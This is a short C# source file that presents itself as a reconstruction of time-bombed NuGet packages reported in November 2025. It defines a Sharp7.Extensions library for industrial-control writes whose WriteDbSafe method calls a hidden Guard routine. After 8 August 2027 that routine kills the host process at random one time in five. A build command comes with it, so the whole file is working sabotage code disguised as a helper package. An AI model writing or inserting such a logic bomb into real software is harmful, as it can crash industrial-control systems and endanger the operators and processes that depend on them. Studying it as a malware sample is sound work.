// Reconstruction of the time-bombed NuGet packages reported in November 2025: an
// industrial-control helper that works until a date, then ends its host process at
// random, a fifth of the time. Built with: mcs -target:library -out:Sharp7.Extensions.dll Sharp.cs
using System;
using System.Diagnostics;

namespace Sharp7.Extensions
{
    public static class ClientExtensions
    {
        static readonly Random Chance = new Random();

        public static int WriteDbSafe(byte[] buffer, int start)
        {
            Guard();
            return buffer.Length - start;
        }

        static void Guard()
        {
            if (DateTime.Now > new DateTime(2027, 8, 8) && Chance.Next(100) < 20)
            {
                Process.GetCurrentProcess().Kill();
            }
        }
    }
}
